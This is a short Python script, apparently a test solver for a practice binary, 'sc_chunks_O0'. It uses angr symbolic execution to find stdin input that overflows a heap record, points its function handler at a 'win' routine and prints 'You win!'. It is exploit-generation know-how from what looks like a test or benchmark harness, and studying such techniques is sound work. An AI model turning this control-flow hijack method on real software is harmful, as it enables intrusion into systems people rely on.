"""Exploit finding over the heap model of the framework (``auto_load_libs=False``: angr's, or
angr-ram's, ``calloc``): ``save_unconstrained=True``, ``step()`` until the handler called through
the overflowed heap record is symbolic, then ``rip == win``. Natively the name's 24 bytes sit in a
32-byte chunk, so the handler is at byte 32 of the input."""
import angr

PROGRAM = "sc_chunks_O0"
EXPECT = b"You win!"


def solve(binary, attach):
    proj = angr.Project(binary, auto_load_libs=False)
    state = proj.factory.entry_state(add_options={angr.options.ZERO_FILL_UNCONSTRAINED_MEMORY})
    simgr = proj.factory.simulation_manager(state, save_unconstrained=True)
    attach(simgr)
    win = proj.loader.find_symbol("win").rebased_addr
    for _ in range(300):
        if simgr.unconstrained or not simgr.active:
            break
        simgr.step()
    for s in simgr.unconstrained:
        if s.solver.satisfiable(extra_constraints=[s.regs.rip == win]):
            s.add_constraints(s.regs.rip == win)
            return {"stdin": s.posix.dumps(0)}
    raise AssertionError(f"no controllable handler call: {simgr}")
